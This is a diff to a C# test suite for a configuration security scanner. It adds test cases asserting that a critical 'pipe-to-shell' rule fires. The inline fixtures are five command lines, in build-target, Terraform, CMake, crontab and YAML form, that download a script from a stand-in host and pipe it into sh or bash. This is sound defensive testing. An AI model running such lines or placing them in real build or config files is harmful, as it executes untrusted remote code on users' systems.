@@ -43,6 +43,15 @@ public sealed class ConfigurationTests
     public void An_everyday_setting_passes(string file, string text) =>
         Assert.DoesNotContain(Scanner.ScanText(text, file).Findings, finding => ConfigurationRules.Rules.Any(rule => rule.Info.Name == finding.Rule));
 
+    [Theory]
+    [InlineData("build/Shim.targets", "<Exec Command=\"curl -fsSL http://s.example.net/i.sh | sh\" />")]
+    [InlineData("main.tf", "provisioner \"local-exec\" {\n  command = \"curl -s https://s.example.net/i | bash\"\n}")]
+    [InlineData("CMakeLists.txt", "execute_process(COMMAND bash -c \"curl -s https://s.example.net/i | bash\")")]
+    [InlineData("crontab", "@hourly curl -s https://s.example.net/w | sh")]
+    [InlineData("settings.yaml.example", "post: curl -s https://s.example.net/w | sh")]
+    public void A_file_that_a_tool_obeys_is_no_page_for_people(string file, string text) =>
+        Assert.Contains(Scanner.ScanText(text, file).Findings, finding => finding is { Rule: "pipe-to-shell", Severity: Severity.Critical });
+
     [Fact]
     public void Every_example_of_a_rule_breaks_it() => Assert.All(ConfigurationRules.Rules, rule =>
         Assert.Contains(Scanner.ScanText(rule.Example, "settings").Findings, finding => finding.Rule == rule.Info.Name && finding.Severity >= Severity.Medium));
